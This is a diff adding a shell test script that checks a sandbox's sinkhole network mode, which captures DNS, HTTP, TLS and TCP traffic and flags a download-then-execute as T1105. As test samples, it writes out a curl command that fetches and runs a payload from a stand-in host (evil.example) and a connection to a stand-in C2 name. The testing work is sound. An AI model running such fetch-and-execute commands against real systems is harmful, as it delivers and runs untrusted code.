@@ -1,0 +1,70 @@
+#!/bin/sh
+# airlock run --trace --net sinkhole: names resolve to loopback inside the sandbox's own network
+# namespace, connections to any address land on capturing listeners (HTTP request line and
+# Host, TLS SNI), a download then execute gives T1105, and nothing reaches a host listener.
+. "$AIRLOCK_SRC/tests/lib.sh"
+. "$AIRLOCK_SRC/tests/helpers/monitor/trace-lib.sh"
+
+mkdir -p "$SAMPLES"
+cat >"$SAMPLES/tls.py" <<'PY'
+import socket, ssl, sys
+s = socket.create_connection((sys.argv[1], 443), timeout=5)
+try:
+    ssl.create_default_context().wrap_socket(s, server_hostname=sys.argv[1])
+except Exception:
+    pass
+PY
+chmod -R a+rX "$SAMPLES"
+
+# a host listener the sandbox must not reach, whatever address it uses
+port_file=$TEST_TMPDIR/port
+hits=$TEST_TMPDIR/hits
+: >"$hits"
+$PY - "$port_file" "$hits" <<'PY' &
+import socket, sys, select, time
+s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(16)
+open(sys.argv[1], "w").write(str(s.getsockname()[1]))
+end = time.time() + 60
+while time.time() < end:
+    r, _, _ = select.select([s], [], [], 0.3)
+    if r:
+        c, a = s.accept(); open(sys.argv[2], "a").write("hit\n"); c.close()
+    try:
+        open(sys.argv[1] + ".stop").close(); break
+    except OSError:
+        pass
+PY
+listener=$!
+for _ in 1 2 3 4 5 6 7 8 9 10; do [ -s "$port_file" ] && break; sleep 0.2; done
+port=$(cat "$port_file")
+
+trace dl --net sinkhole -- /bin/sh -c "curl -s -m 5 -o /tmp/p http://evil.example/stage2; \
+        chmod +x /tmp/p; /tmp/p; curl -s -m 3 http://127.0.0.1:$port/ >/dev/null; true"
+got=$(jq_py dl "any(n['kind'] == 'dns' and n['name'] == 'evil.example' for n in r['network'])")
+[ "$got" = True ] && pass "sinkhole: DNS name recorded" ||
+        fail "sinkhole: DNS name recorded" "$(jq_py dl "r['network']") $(head -c 300 "$TEST_TMPDIR/dl.out")"
+got=$(jq_py dl "[(n['request'], n['name']) for n in r['network'] if n['kind'] == 'http'][:1]")
+[ "$got" = "[('GET /stage2 HTTP/1.1', 'evil.example')]" ] && pass "sinkhole: HTTP request line and Host" ||
+        fail "sinkhole: HTTP request line and Host" "got $got"
+expect_finding dl T1105 high
+expect_finding dl T1222.002
+
+trace tls --net sinkhole -- /usr/bin/python3 /opt/samples/tls.py c2.example.net
+got=$(jq_py tls "[(n['name'], n['address'], n['port']) for n in r['network'] if n['kind'] == 'tls']")
+[ "$got" = "[('c2.example.net', '127.0.0.1', 443)]" ] && pass "sinkhole: TLS SNI" ||
+        fail "sinkhole: TLS SNI" "got $got; $(head -c 300 "$TEST_TMPDIR/tls.out")"
+
+# any address: a connection to a public address lands on the sinkhole, not the internet
+trace anyip --net sinkhole -- /usr/bin/python3 -c "
+import socket
+s = socket.create_connection(('198.51.100.7', 8080), timeout=3)
+s.sendall(b'HELLO')
+s.close()"
+got=$(jq_py anyip "[(n['kind'], n['address'], n['port'], n['first_bytes']) for n in r['network']]")
+[ "$got" = "[('tcp', '198.51.100.7', 8080, 'HELLO')]" ] && pass "sinkhole: connection to any address captured" ||
+        fail "sinkhole: connection to any address captured" "got $got; $(head -c 300 "$TEST_TMPDIR/anyip.out")"
+
+touch "$port_file.stop"
+wait "$listener" 2>/dev/null
+[ ! -s "$hits" ] && pass "sinkhole: host listener on 127.0.0.1:$port got no connection" ||
+        fail "sinkhole: host listener on 127.0.0.1:$port got no connection" "$(wc -l <"$hits")"
